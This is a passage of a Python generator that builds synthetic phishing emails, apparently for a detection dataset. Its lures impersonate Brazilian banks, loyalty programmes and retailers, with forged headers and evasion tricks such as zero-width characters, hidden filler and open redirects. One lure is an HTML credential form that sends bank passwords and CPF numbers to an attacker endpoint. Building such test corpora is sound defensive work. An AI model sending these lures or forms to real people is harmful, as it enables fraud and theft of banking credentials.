         mid=mid_hex(n, "grupoandradeeventos.com.br"), to="undisclosed-recipients:;",
         extra=["X-Mailer: PHPMailer 6.7.1 (https://github.com/PHPMailer/PHPMailer)"])

    # 2 ---------------------------------------------------------------- Smiles lookalike, base64 body
    n = "smiles-milhas-lookalike-base64"
    t = when(2023, 8, 2, 22, 41, 5)
    url = "https://smilesclubevantagens.com/resgate/?cid=7f3a91&u=cmVuYXRhLmF6ZXZlZG8uc3BAZ21haWwuY29t"
    html = html_doc(hidden("Suas milhas Smiles expiram em 48 horas &zwnj;&nbsp;&zwnj;&nbsp;&zwnj;&nbsp;&zwnj;&nbsp;") + card(
        row('<img src="https://smilesclubevantagens.com/img/logo-smiles.png" width="140" alt="Smiles">', "24px 32px 0")
        + row('<h2 style="color:#ff5a00;margin:0">Renata, suas 42.300 milhas estão prestes a expirar</h2>'
              '<p>Conforme o regulamento do Programa Smiles, as milhas acumuladas há mais de 36 meses expiram automaticamente. '
              'Identificamos <b>42.300 milhas</b> com vencimento em <b>04/08/2023</b>.</p>'
              '<p>Para não perder seu saldo, você pode transformá-las em produtos, passagens ou convertê-las em saldo na sua conta.</p>'
              '<table width="100%" style="background:#fff4ec;border-radius:8px"><tr><td style="padding:14px">'
              'Saldo a expirar: <b>42.300 milhas</b><br>Valor estimado: <b>R$ 1.269,00</b></td></tr></table>')
        + row(button(url, "Consultar e resgatar milhas", "#ff5a00"), "12px 32px 28px")
        + row('<p style="font-size:11px;color:#888">Smiles Fidelidade S.A. Não responda este e-mail. Para deixar de receber, '
              '<a href="https://smilesclubevantagens.com/sair" style="color:#888">clique aqui</a>.</p>')))
    mail(n, "phishing", "Smiles miles-expiring lure from a registered lookalike domain that passes its own SPF/DKIM/DMARC; HTML-only base64 body with a personalised tracking link.",
         prov="gmail", rcpt=R_GM1, t=t, tz=SP,
         frm=addr("Smiles", "noreply@smilesclubevantagens.com"), subj="Renata, suas 42.300 milhas Smiles expiram em 48h",
         body=html_only(html, "base64"), mf="bounce@smilesclubevantagens.com", ip="103.167.84.212",
         helo="mail.smilesclubevantagens.com", rdns="mail.smilesclubevantagens.com",
         dkim=[("smilesclubevantagens.com", "mail", "pass")], dmarc=("pass", "NONE"),
         hops=[rx_local("mail.smilesclubevantagens.com", t - timedelta(seconds=2), n, UTC, "www-data", 33)],
         mid=mid_hex(n, "smilesclubevantagens.com", 24), extra=["X-Priority: 1"])

    # 3 ---------------------------------------------------------------- Esfera, zero-width chars
    n = "esfera-pontos-zerowidth"
    t = when(2024, 1, 19, 11, 2, 18)
    url = "https://esfera-resgate-2024.web.app/?c=ZXNmZXJh"
    html = html_doc(card(
        row(f'<p style="font-size:22px;color:#cc0000"><b>{zw("Esfera")}</b> {zw("Santander")}</p>'
            f'<p>{zw("Prezado(a) cliente,")}</p><p>{zw("Seus pontos Esfera acumulados no cartão Santander vencem nesta sexta-feira.")} '
            f'{zw("Saldo atual:")} <b>27.980 pontos</b>.</p><p>{zw("Troque agora por produtos com até 80% de desconto ou transforme em cashback.")}</p>')
        + row(button(url, zw("VER MEUS PONTOS"), "#cc0000"), "8px 32px 24px")
        + row(hidden("Receita de bolo de cenoura: 3 cenouras médias, 4 ovos, 1 xícara de óleo, 2 xícaras de açúcar, 2 e meia de farinha. Bata tudo no liquidificador.")
              + '<p style="font-size:10px;color:#aaa">Esfera - Programa de fidelidade. Mensagem automática.</p>')))
    plain = zw("Seus pontos Esfera vencem nesta sexta-feira. Saldo atual: 27.980 pontos.") + "\n" + url + "\n"
    mail(n, "phishing", "Esfera/Santander points lure from a throw-away domain on a Contabo VPS, zero-width characters splitting brand words in subject and body, hidden recipe text as filler, link to Firebase hosting.",
         prov="uol", rcpt=R_BOL, t=t, tz=SP,
         frm=addr("Esfera Santander", "avisos@esferapontos-beneficios.online"),
         subj=zw("Esfera: seus 27.980 pontos vencem nesta sexta", "s3"),
         body=alt(plain, html, bnd("next", n)), mf="avisos@esferapontos-beneficios.online", ip="161.97.139.54",
         helo="vmi1523344.contaboserver.net", rdns="vmi1523344.contaboserver.net",
         hops=[f"Received: from localhost (localhost [127.0.0.1])\n\tby vmi1523344.contaboserver.net (8.15.2/8.15.2/Debian-22) with ESMTP id 40JE2Ggk{num(n, 100000, 999999)}\n\tfor <{R_BOL}>; {fmt(t - timedelta(seconds=3), ZoneInfo('Europe/Berlin'))}"],
         mid=f"<{hx(n, 20)}.{num(n, 1000, 9999)}@vmi1523344.contaboserver.net>")

    # 4 ---------------------------------------------------------------- Dotz, spoofed From, wrong charset
    n = "dotz-spoof-wrong-charset"
    t = when(2022, 11, 8, 9, 15, 50)
    url = "http://dotz-troca-pontos.com/resgate/index.php?id=88213"
    html = ("<html><body><center><table width=580 style='font-family:Verdana'><tr><td>"
            "<img src='http://dotz-troca-pontos.com/img/dotz.jpg' width=580><br><br>"
            "<font size=4 color='#f47920'><b>ATENÇÃO: SEUS DZ EXPIRAM EM 24 HORAS</b></font><br><br>"
            "Olá,<br><br>Você possui <b>9.340 DZ</b> acumulados que expiram amanhã. Não perca! Troque já por "
            "produtos, vale-combustível ou crédito no celular.<br><br>"
            f"<a href='{url}'><font size=4><b>&gt;&gt; TROCAR MEUS DZ AGORA &lt;&lt;</b></font></a><br><br>"
            "<font size=1 color=gray>Dotz S.A. - Todos os direitos reservados. Não responda este e-mail.</font>"
            "</td></tr></table></center></body></html>\n")
    body = Leaf("text/html", html.encode("utf-8"), "quoted-printable", '; charset="iso-8859-1"')
    mail(n, "phishing", "Dotz points lure spoofing atendimento@dotz.com.br from a PHP script on an OVH server (SPF none, DMARC fail), UTF-8 body mislabelled as ISO-8859-1, plain http link.",
         prov="terra", rcpt=R_TER, t=t, tz=SP,
         frm=addr("Dotz", "atendimento@dotz.com.br"), subj="Seus DZ expiram em 24 horas - troque agora", subj_charset="iso-8859-1", subj_mode="Q",
         body=body, mf="apache@ns3102.hostingsoft.info", ip="51.178.62.140", helo="ns3102.hostingsoft.info", rdns="ns3102.hostingsoft.info",
         spf="none", dmarc=("fail", "QUARANTINE"),
         hops=[rx_local("ns3102.hostingsoft.info", t - timedelta(seconds=1), n, PARIS, "apache", 48)],
         mid=f"<{hx(n, 32)}@ns3102.hostingsoft.info>",
         extra=["X-PHP-Originating-Script: 1001:mailer.php", "X-Mailer: PHPMailer 5.2.9 (https://github.com/PHPMailer/PHPMailer/)"])

    # 5 ---------------------------------------------------------------- LATAM Pass via abused SendGrid account
    n = "latampass-sendgrid-abuse"
    t = when(2024, 5, 21, 15, 33, 12)
    def sg(tok):
        return f"https://u38427519.ct.sendgrid.net/ls/click?upn=u001.{b64s(n + tok, 120).replace('/', '-').replace('+', '_')}"
    html = html_doc(card(
        row('<img src="https://latampass-milhas.com/assets/latam-pass.png" width="180" alt="LATAM Pass">', "24px 32px 8px", "background:#1b0088")
        + row('<h2 style="color:#1b0088">Última chance: suas milhas LATAM Pass vencem em 31/05</h2>'
              '<p>Olá, Marcos!</p><p>Você tem <b>36.700 milhas LATAM Pass</b> com vencimento próximo. Troque por passagens nacionais a partir de '
              '10.000 milhas ou por produtos na Loja LATAM Pass.</p><p>Clientes que trocarem até o fim do mês ganham <b>bônus de 50%</b> na renovação.</p>')
        + row(button(sg("c1"), "Trocar minhas milhas", "#e8114b"), "8px 32px 24px")
        + row(f'<p style="font-size:11px;color:#777">Você recebeu este e-mail porque é membro LATAM Pass. '
              f'<a href="{sg("u")}" style="color:#777">Cancelar inscrição</a></p>'
              + f'<img src="https://u38427519.ct.sendgrid.net/wf/open?upn=u001.{b64s(n + "o", 90).replace("/", "-")}" alt="" width="1" height="1" border="0" style="height:1px !important;width:1px !important;border-width:0 !important;margin:0 !important;padding:0 !important">')))
    plain = ("Última chance: suas milhas LATAM Pass vencem em 31/05\n\nOlá, Marcos!\nVocê tem 36.700 milhas LATAM Pass com vencimento próximo.\n\n"
             f"Trocar minhas milhas ( {sg('c1')} )\n")
    mail(n, "phishing", "LATAM Pass miles lure sent through a SendGrid account on a lookalike domain: SPF/DKIM/DMARC all pass, links wrapped by SendGrid click tracking.",
         prov="outlook", rcpt=R_HOT, t=t, tz=UTC,
         frm=addr("LATAM Pass", "ofertas@latampass-milhas.com"), subj="Marcos, suas 36.700 milhas vencem em 31/05",
         body=alt(plain, html, hx(n, 60)), mf="bounces+38427519-4c1a-marcos_lima1978=hotmail.com@em8341.latampass-milhas.com",
         ip="149.72.154.230", helo="xtrwkhkc.outbound-mail.sendgrid.net", rdns="xtrwkhkc.outbound-mail.sendgrid.net",
         dkim=[("latampass-milhas.com", "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")], dmarc=("pass", "NONE"),
         hops=[f"Received: by filterdrecv-7bc8d5c56c-2xk9p with SMTP id filterdrecv-7bc8d5c56c-2xk9p-1-664CBF{num(n, 10, 99)}-{num(n + 'r', 10, 99)}\n        {fmt(t - timedelta(seconds=2))}",
               f"Received: from Mzg0Mjc1MTk (unknown)\n\tby geopod-ismtpd-14 (SG) with HTTP\n\tid {alnum(n + 'geo', 22)}\n\tfor <{R_HOT}>; {fmt(t - timedelta(seconds=3))}"],
         mid=f"<{alnum(n + 'sgm', 22)}@geopod-ismtpd-14>",
         extra=[f"X-SG-EID: \n =?us-ascii?Q?u001.{b64s(n + 'eid', 60)}?=", f"X-SG-ID: \n =?us-ascii?Q?u001.{b64s(n + 'sid', 60)}?=",
                "X-Entity-ID: u001.Dz3ZkMpV1+Qx7Ts7oK1LhQ=="])

    # 6 ---------------------------------------------------------------- Magalu prize, compromised WordPress, Blogspot
    n = "magalu-airfryer-wordpress"
    t = when(2022, 12, 5, 18, 20, 33)
    url = "https://premiados-magalu-natal.blogspot.com/?utm=email&id=5521"
    html = html_doc(card(
        row('<img src="https://blogger.googleusercontent.com/img/b/R29vZ2xl/AVvXsEi_magalu_natal/s600/topo.jpg" width="536" alt="Magalu" style="display:block;width:100%">', "0")
        + row('<p style="font-size:20px;color:#0086ff"><b>Parabéns! Você foi sorteado(a) no Natal Magalu!</b></p>'
              '<p>Seu e-mail foi selecionado para receber uma <b>Air Fryer Mondial 4L</b> como parte da nossa campanha de fim de ano. '
              'Para liberar o envio, responda a uma pesquisa rápida de 30 segundos sobre sua experiência com a Magalu e pague apenas o frete simbólico.</p>'
              '<p style="color:#d00">Restam apenas 7 unidades. A oferta expira hoje às 23:59.</p>')
        + row(button(url, "RESPONDER PESQUISA E RECEBER", "#0086ff"), "8px 32px 28px")
        + row('<p style="font-size:10px;color:#999">Magazine Luiza S/A - CNPJ 47.960.950/0001-21</p>')))
    mail(n, "phishing", "Magalu 'you won an air fryer' survey scam sent through a hacked WordPress site's PHPMailer (SPF pass for the host, no DKIM), landing page on Blogspot asking for a shipping fee.",
         prov="gmail", rcpt=R_GM1, t=t, tz=SP,
         frm=addr("Magazine Luiza", "wordpress@casadasorquideas-mg.com.br"), subj="Parabéns! Você ganhou uma Air Fryer no Natal Magalu",
         body=html_only(html), mf="wordpress@casadasorquideas-mg.com.br", ip="186.202.153.77", helo="srv84.webhostbr.net", rdns="srv84.webhostbr.net",
         hops=[rx_local("srv84.webhostbr.net", t - timedelta(seconds=2), n, SP, "casadaso", 1047)],
         mid=f"<{alnum(n, 43)}@casadasorquideas-mg.com.br>",
         extra=["X-Mailer: PHPMailer 6.6.4 (https://github.com/PHPMailer/PHPMailer)"])

    # 7 ---------------------------------------------------------------- Americanas refund via Amazon SES
    n = "americanas-reembolso-pix-ses"
    t = when(2023, 6, 12, 14, 4, 27)
    url = "https://americanas-reembolso.com/pix/consulta?pedido=02-864471093&t=" + hx(n, 16)
    html = html_doc(card(
        row('<img src="https://americanas-reembolso.com/static/logo-americanas.png" width="160" alt="americanas">', "22px 32px 6px", "background:#e60014")
        + row('<h3>Seu pedido 02-864471093 foi cancelado</h3><p>Olá,</p><p>Por falta de estoque no centro de distribuição, o pedido abaixo foi cancelado '
              'e o valor será <b>reembolsado via Pix</b> em até 1 dia útil após a confirmação dos seus dados.</p>'
              '<table width="100%" style="border:1px solid #eee"><tr><td style="padding:10px">Smartphone Samsung Galaxy A54 5G 128GB</td>'
              '<td align="right" style="padding:10px"><b>R$ 1.899,00</b></td></tr></table>'
              '<p>Confirme a chave Pix para recebimento do estorno:</p>')
        + row(button(url, "confirmar reembolso", "#e60014"), "4px 32px 24px")
        + row('<p style="font-size:11px;color:#888">americanas s.a. - este e-mail é automático. Dúvidas? acesse a central de atendimento.</p>')))
    plain = "Seu pedido 02-864471093 foi cancelado.\nO valor de R$ 1.899,00 será reembolsado via Pix após a confirmação dos seus dados:\n" + url + "\n"
    sent = t - timedelta(seconds=1)
    mail(n, "phishing", "Americanas 'order cancelled, confirm your Pix key for the refund' lure on a lookalike domain verified in Amazon SES (all authentication passes); no order ever existed.",
         prov="terra", rcpt=R_TER, t=t, tz=UTC,
         frm=addr("americanas", "pedidos@americanas-reembolso.com"), subj="Pedido 02-864471093 cancelado - confirme seu reembolso via Pix",
         body=alt(plain, html, "----=_Part_" + str(num(n, 1000000, 9999999)) + "_" + str(num(n + "x", 100000000, 999999999)) + "." + str(ts(t) * 1000)),
         mf=f"010301{format(ts(t) * 1000, 'x')}-{uuid(n)}-000000@sa-east-1.amazonses.com", ip="23.249.218.31",
         helo="a218-31.smtp-out.sa-east-1.amazonses.com", rdns="a218-31.smtp-out.sa-east-1.amazonses.com",
         dkim=[("americanas-reembolso.com", alnum(n + "sel", 32).lower(), "pass"), ("amazonses.com", "ihchhvubuqgjsxyuhssfvqohv7z3u4hn", "pass")],
         dmarc=("pass", "NONE"),
         mid=f"<010301{format(ts(t) * 1000, 'x')}-{uuid(n)}-000000@sa-east-1.amazonses.com>",
         extra=[f"Feedback-ID: ::1.sa-east-1.{b64s(n + 'fb', 43)}=:AmazonSES", f"X-SES-Outgoing: {t.strftime('%Y.%m.%d')}-23.249.218.31"])

    # 8 ---------------------------------------------------------------- Shein gift card from compromised M365 tenant
    n = "shein-cartao-presente-m365-compromised"
    t = when(2024, 9, 3, 12, 48, 9)
    url = "https://shein-presente-br.vercel.app/resgatar?ref=EM24"
    host = "CP4P284MB2371"
    html = ('<html><head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8"><style type="text/css" style="display:none;"> P {margin-top:0;margin-bottom:0;} </style>\n'
            '</head><body dir="ltr"><div class="elementToProof" style="font-family: Aptos, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">'
            '<table align="center" width="560" style="border:1px solid #ddd"><tr><td style="background:#000;padding:16px;text-align:center">'
            '<span style="color:#fff;font-size:26px;letter-spacing:4px;font-family:Arial"><b>SHEIN</b></span></td></tr>'
            '<tr><td style="padding:20px;font-family:Arial">Olá!<br><br>Você foi um dos clientes escolhidos na campanha <b>SHEIN 9.9 Aniversário</b> '
            'e ganhou um <b>Cartão Presente de R$ 500,00</b> para usar em qualquer produto do site.<br><br>'
            'Para ativar o seu cartão basta confirmar seu cadastro e pagar a taxa de emissão de R$ 19,90.<br><br>'
            f'<div style="text-align:center"><a href="{url}" style="background:#000;color:#fff;padding:12px 28px;text-decoration:none">ATIVAR MEU CARTÃO</a></div><br>'
            'Válido até 06/09/2024.</td></tr></table></div></body></html>\n')
    plain = ("Olá!\n\nVocê foi um dos clientes escolhidos na campanha SHEIN 9.9 Aniversário e ganhou um Cartão Presente de R$ 500,00.\n\n"
             f"ATIVAR MEU CARTÃO<{url}>\n\nVálido até 06/09/2024.\n")
    mail(n, "phishing", "Shein R$500 gift-card 'activation fee' scam sent from a compromised Microsoft 365 accounting-firm mailbox (genuine tenant, SPF/DKIM/DMARC pass, Bcc to victims), link on Vercel.",
         prov="uol", rcpt=R_BOL, t=t, tz=SP,
         frm=addr("SHEIN Brasil", "financeiro@contabilmarques.com.br"), to="financeiro@contabilmarques.com.br",
         subj="Você ganhou um Cartão Presente SHEIN de R$ 500,00",
         body=alt(plain, html, bnd("outlook", n)), mf="financeiro@contabilmarques.com.br", ip="40.107.95.106",
         helo="BRA01-CP2-obe.outbound.protection.outlook.com", rdns="mail-cp2bra01on2106.outbound.protection.outlook.com",
         dkim=[("contabilmarques.com.br", "selector1", "pass")], dmarc=("pass", "NONE"),
         hops=[f"Received: from {host}.BRAP284.PROD.OUTLOOK.COM (2603:10d6:103:16f::9) by\n RO2P284MB1945.BRAP284.PROD.OUTLOOK.COM (2603:10d6:10:e5::7) with Microsoft SMTP\n Server (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id\n 15.20.7918.27; {fmt(t - timedelta(seconds=1))}",
               f"Received: from {host}.BRAP284.PROD.OUTLOOK.COM\n ([fe80::4a1b:77c2:9e10:5d3a]) by {host}.BRAP284.PROD.OUTLOOK.COM\n ([fe80::4a1b:77c2:9e10:5d3a%6]) with mapi id 15.20.7918.024; {fmt(t - timedelta(seconds=2))}"],
         mid=f"<{host}{alnum(n + 'm', 14, True)}@{host}.BRAP284.PROD.OUTLOOK.COM>",
         order=["From", "To", "Subject", "Date", "Message-ID"],
         extra=["Thread-Topic: =?utf-8?B?Vm9jw6ogZ2FuaG91IHVtIENhcnTDo28gUHJlc2VudGUgU0hFSU4gZGUgUiQgNTAwLDAw?=",
                f"Thread-Index: {b64s(n + 'ti', 22)}==", "Accept-Language: pt-BR, en-US", "Content-Language: pt-BR",
                "X-MS-Has-Attach: ", "X-MS-TNEF-Correlator: ", f"X-MS-Exchange-CrossTenant-id: {uuid(n + 'tenant')}"])

    # 9 ---------------------------------------------------------------- Amazon fake order, callback PDF, Gmail account
    n = "amazon-iphone-order-callback-pdf"
    t = when(2023, 10, 17, 16, 55, 3)
    phone = "+1 (833) 914-2276"
    pdfb = files.pdf(["Amazon.com - Order Invoice", "", "Order #: 112-4471930-8862217     Order date: October 17, 2023",
                      "Sold by: Amazon.com Services LLC", "", "Item: Apple iPhone 15 Pro Max 256GB - Natural Titanium   Qty 1   $1,199.00",
                      "AppleCare+ for iPhone (2 years)   $199.00", "Shipping & handling   $0.00", "Estimated tax   $101.04",
                      "Grand Total: $1,499.04", "Payment: Visa ending in ****", "",
                      "If you did not place this order or want to cancel it, call Amazon Order Support",
                      f"within 24 hours: {phone} (toll free, 24/7). Refunds are processed only by phone."], title="Invoice 112-4471930-8862217")
    plain = ("Dear Customer,\n\nThank you for shopping with us. Your order #112-4471930-8862217 for Apple iPhone 15 Pro Max 256GB "
             "has been placed and will be charged $1,499.04 to your card on file.\n\nPlease find the invoice attached for your records.\n\n"
             f"If you did not authorize this purchase please call our Order Support team immediately at {phone} to cancel and get a full refund.\n\n"
             "Regards,\nAmazon.com Order Department\n")
    body = Multi("mixed", bnd("gmail", n), [Multi("alternative", bnd("gmail", n + "a"), [
        text(plain, "plain", "quoted-printable"),
        text("<div dir=\"ltr\">" + plain.replace("\n\n", "</div><div><br></div><div>").replace("\n", "<br>") + "</div>\n", "html")]),
        att("application/pdf", "Invoice_112-4471930.pdf", pdfb)])
    mail(n, "phishing", "Fake Amazon iPhone order with a PDF invoice: a callback scam from a free Gmail account whose only call to action is a phone number, no link.",
         prov="outlook", rcpt=R_OUT, t=t, tz=ZoneInfo("America/Chicago"),
         frm=addr("Amazon.com", "kerry.walsh.orders2287@gmail.com"), subj="Your Amazon.com order #112-4471930-8862217 has been placed",
         body=body, mf="kerry.walsh.orders2287@gmail.com", ip="209.85.219.170", helo="mail-yb1-f170.google.com", rdns="mail-yb1-f170.google.com",
         dkim=[("gmail.com", "20230601", "pass")], dmarc=("pass", "NONE"),
         hops=[f"Received: by mail-yb1-f170.google.com with SMTP id 3f1490d57ef6-d9a58aa4983so6241275276.0\n        for <{R_OUT}>; {fmt(t - timedelta(seconds=1), PT, True)}",
               f"X-Google-Smtp-Source: AGHT+I{b64s(n + 'x', 70)}",
               f"X-Received: by 2002:a25:d74e:0:b0:d9a:c3b8:4274 with SMTP id o75-20020a25d74e000000b00d9ac3b84274mr2717745ybg.{num(n, 10, 99)}.{ts(t)}{num(n, 100, 999)}; {fmt(t - timedelta(seconds=1), PT, True)}"],
         mid=mid_gmail(n), order=["From", "Date", "Message-ID", "Subject", "To"])

    # 10 --------------------------------------------------------------- Bradesco token, lookalike, plain http
    n = "bradesco-chave-seguranca-lookalike"
    t = when(2022, 9, 27, 10, 11, 47)
    url = "http://bradesco-seguranca.com/ibpf/sincronizar.php?protocolo=BR2209" + str(num(n, 1000, 9999))
    html = html_doc(card(
        row('<table width="100%"><tr><td style="background:#cc092f;padding:14px"><font color="#ffffff" size="5"><b>bradesco</b></font></td></tr></table>', "0")
        + row('<p><b>Prezado(a) Cliente,</b></p><p>Informamos que a sua <b>Chave de Segurança Bradesco</b> (dispositivo de segurança) expira hoje, '
              '27/09/2022. Após o vencimento as transações via Internet Banking, Pix e App Bradesco serão bloqueadas por medida de segurança.</p>'
              '<p>Para evitar o bloqueio, realize a sincronização gratuita do seu dispositivo pelo link abaixo. O procedimento leva menos de 2 minutos.</p>'
              f'<p align="center"><a href="{url}"><img src="http://bradesco-seguranca.com/img/btn-sincronizar.png" alt="SINCRONIZAR AGORA" width="240" border="0"></a></p>'
              '<p>Atenciosamente,<br>Banco Bradesco S.A.<br>Central de Segurança</p>')
        + row('<p style="font-size:10px;color:#999">Protocolo: BR2209-77413. Não responda esta mensagem.</p>')))
    mail(n, "phishing", "Bradesco 'security key expires today, synchronise or be blocked' lure from a registered lookalike domain (SPF pass, unsigned), button is an image linking to a plain-http PHP page.",
         prov="uol", rcpt=R_UOL, t=t, tz=SP,
         frm=addr("Bradesco", "seguranca@bradesco-seguranca.com"), subj="BRADESCO: Sua chave de segurança expira hoje - evite o bloqueio",
         body=html_only(html), mf="seguranca@bradesco-seguranca.com", ip="193.233.48.17", helo="mail.bradesco-seguranca.com", rdns="mail.bradesco-seguranca.com",
         hops=[rx_local("mail.bradesco-seguranca.com", t - timedelta(seconds=2), n, UTC, "root", 0)],
         mid=f"<{hx(n, 18)}@bradesco-seguranca.com>", extra=["X-Mailer: Microsoft Outlook Express 6.00.2900.5512"])

    # 11 --------------------------------------------------------------- Itaú HTML attachment, spoofed p=reject
    n = "itau-html-attachment-spoof"
    t = when(2023, 4, 11, 8, 36, 20)
    form = ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>Itaú - Atualização Cadastral</title>'
            '<meta name="viewport" content="width=device-width,initial-scale=1"><style>body{font-family:Arial;background:#ec7000;margin:0}'
            '.box{background:#fff;max-width:380px;margin:40px auto;padding:26px;border-radius:8px}input{width:100%;padding:10px;margin:6px 0 14px;'
            'border:1px solid #ccc;border-radius:4px}button{background:#003399;color:#fff;border:0;padding:12px;width:100%;font-size:16px}</style></head>'
            '<body><div class="box"><h2 style="color:#ec7000">Itaú</h2><p>Atualização cadastral obrigatória - Resolução BCB nº 96</p>'
            '<form method="POST" action="https://atualizacao-itau-cadastro.xyz/recebe.php">'
            '<label>Agência</label><input name="ag" maxlength="4" required><label>Conta</label><input name="cc" required>'
            '<label>Senha eletrônica (6 dígitos)</label><input name="s6" type="password" maxlength="6" required>'
            '<label>CPF</label><input name="cpf" required><label>Celular</label><input name="cel" required>'
            '<button type="submit">Continuar</button></form><p style="font-size:11px;color:#666">Itaú Unibanco S.A.</p></div></body></html>\n')
    plain = ("Prezado(a) cliente Itaú,\n\nConforme a Resolução BCB nº 96, todos os correntistas devem atualizar seus dados cadastrais até 14/04/2023.\n"
             "Segue em anexo o formulário de atualização. Abra o arquivo no seu navegador, preencha os dados e clique em Continuar.\n\n"
             "O não preenchimento poderá acarretar a suspensão temporária da conta.\n\nItaú Unibanco S.A.\n")
    body = Multi("mixed", bnd("next", n), [text(plain, "plain", "8bit", "utf-8"),
                                             att("text/html", "Itau_Atualizacao_Cadastral_7731.html", form.encode())])
    mail(n, "phishing", "Itaú 'mandatory registration update' with an HTML attachment holding a credential form that posts agency, account, password and CPF to an attacker PHP; From spoofs itau.com.br (DMARC p=reject fails).",
         prov="terra", rcpt=R_TER, t=t, tz=SP,
         frm=addr("Itaú Unibanco", "comunicado@itau.com.br"), subj="Atualização cadastral obrigatória - Resolução BCB 96",
         body=body, mf="root@vps-7f3a2c1d.vps.ovh.ca", ip="51.79.107.203", helo="vps-7f3a2c1d.vps.ovh.ca", rdns="vps-7f3a2c1d.vps.ovh.ca",
         spf="none", dmarc=("fail", "REJECT"),
         hops=[rx_local("vps-7f3a2c1d.vps.ovh.ca", t - timedelta(seconds=2), n, UTC, "root", 0)],
         mid=f"<20230411113618.{hx(n, 6).upper()}@vps-7f3a2c1d.vps.ovh.ca>")

    # 12 --------------------------------------------------------------- Caixa FGTS, tinyurl -> web.app
    n = "caixa-fgts-saque-tinyurl"
    t = when(2024, 2, 14, 19, 28, 55)
    url = "https://tinyurl.com/fgts-saque-2024"
    html = html_doc(card(
        row('<table width="100%"><tr><td style="background:#005ca9;padding:16px"><font face="Arial" color="#ffffff" size="5"><b>CAIXA</b></font>'
            '<font color="#f39200" size="5"> | FGTS</font></td></tr></table>', "0")
        + row('<p>Prezado(a) trabalhador(a),</p><p>O <b>Saque Extraordinário do FGTS</b> referente ao ano-base 2023 está disponível para o seu CPF. '
              'Valor disponível para saque: <b style="color:#005ca9">R$ 2.964,18</b>.</p>'
              '<p>Para receber o valor na sua conta ou via Pix, confirme seus dados pelo botão abaixo até <b>16/02/2024</b>. '
              'Após esse prazo, o valor retorna à conta vinculada.</p>')
        + row(button(url, "CONSULTAR E SACAR", "#f39200"), "6px 32px 24px")
        + row('<p style="font-size:11px;color:#777">CAIXA ECONÔMICA FEDERAL - SAC CAIXA 0800 726 0101. Mensagem gerada automaticamente.</p>')))
    plain = "Saque Extraordinário do FGTS disponível: R$ 2.964,18.\nConfirme seus dados até 16/02/2024: " + url + "\n"
    mail(n, "phishing", "Caixa FGTS 'extraordinary withdrawal available' lure from a lookalike domain, link through TinyURL to a credential and card page.",
         prov="gmail", rcpt=R_GM1, t=t, tz=SP,
         frm=addr("CAIXA", "noreply@fgts-caixa-consulta.com"), subj="FGTS: Saque de R$ 2.964,18 disponível para o seu CPF",
         body=alt(plain, html, bnd("php", n)), mf="noreply@fgts-caixa-consulta.com", ip="89.185.84.131",
         helo="mail.fgts-caixa-consulta.com", rdns="mail.fgts-caixa-consulta.com",
         dkim=[("fgts-caixa-consulta.com", "default", "pass")],
         hops=[rx_postfix("localhost", "127.0.0.1", "mail.fgts-caixa-consulta.com", t - timedelta(seconds=1), n, R_GM1, UTC, "ESMTP")],
         mid=f"<{alnum(n, 40)}@fgts-caixa-consulta.com>", extra=["X-Mailer: PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)"])

    # 13 --------------------------------------------------------------- Santander callback, outlook.com account, no link
    n = "santander-compra-callback-nolink"
    t = when(2023, 7, 6, 21, 14, 2)
    plain = ("SANTANDER - ALERTA DE SEGURANÇA\n\nPrezado(a) cliente,\n\nIdentificamos uma tentativa de compra no seu cartão de crédito final 4471:\n\n"
             "Estabelecimento: MERCADOPAGO*ELETROLUX\nValor: R$ 3.489,90\nData: 06/07/2023 20:51\nStatus: AGUARDANDO CONFIRMAÇÃO\n\n"
             "Caso NÃO reconheça esta compra, entre em contato IMEDIATAMENTE com a nossa Central de Segurança para o cancelamento:\n\n"
             "0800 591 7724 (ligação gratuita, 24h)\nou pelo WhatsApp oficial: (11) 94172-3308\n\n"
             "Se não houver contato em até 2 horas a compra será aprovada automaticamente.\n\nBanco Santander (Brasil) S.A.\n")
    html = ('<html><head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body dir="ltr">'
            '<div style="font-family: Calibri, Arial, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">'
            + plain.replace("\n", "<br>") + '</div></body></html>\n')
    mail(n, "phishing", "Santander 'purchase awaiting confirmation' callback scam from a free Outlook.com account: only a fake 0800 number and a WhatsApp number, no link.",
         prov="outlook", rcpt=R_HOT, t=t, tz=SP,
         frm=addr("Santander Alerta", "alerta.santander.seguranca@outlook.com"), subj="Compra de R$ 3.489,90 aguardando confirmação",
         body=alt(plain, html, bnd("outlook", n)), mf="alerta.santander.seguranca@outlook.com", ip="40.92.42.17",
         helo="BRA01-CP2-obe.outbound.protection.outlook.com", rdns="mail-cp2bra01olkn2017.outbound.protection.outlook.com",
         dkim=[("outlook.com", "selector1", "pass")], dmarc=("pass", "NONE"),
         hops=[f"Received: from CP4P284MB1102.BRAP284.PROD.OUTLOOK.COM\n ([fe80::2c4f:9a11:70bd:ee21]) by CP4P284MB1102.BRAP284.PROD.OUTLOOK.COM\n ([fe80::2c4f:9a11:70bd:ee21%3]) with mapi id 15.20.6565.019; {fmt(t - timedelta(seconds=2))}"],
         mid=f"<CP4P284MB1102{alnum(n, 14, True)}@CP4P284MB1102.BRAP284.PROD.OUTLOOK.COM>",
         extra=["Thread-Topic: =?iso-8859-1?Q?Compra_de_R$_3.489,90_aguardando_confirma=E7=E3o?=", f"Thread-Index: {b64s(n, 22)}==",
                "Accept-Language: pt-BR, en-US", "Content-Language: pt-BR", "X-MS-Has-Attach: ", "X-MS-TNEF-Correlator: ",
                "x-ms-exchange-messagesentrepresentingtype: 1"])

    # 14 --------------------------------------------------------------- Nubank, Bing open redirect, image + button
    n = "nubank-limite-bing-redirect"
    t = when(2025, 1, 22, 12, 3, 41)
    target = "https://nu-limite-pre-aprovado.pages.dev/?u=" + hx(n, 10)
    url = "https://www.bing.com/ck/a?!&&p=" + hx(n + "p", 64) + "JmltdHM9MTczNzUwNDAwMA&ptn=3&ver=2&hsh=4&fclid=" + uuid(n + "f") + "&u=a1" + base64.urlsafe_b64encode(target.encode()).decode().rstrip("=") + "&ntb=1"
    html = html_doc(hidden(zw("Seu limite foi aumentado para R$ 8.500", "nb")) + card(
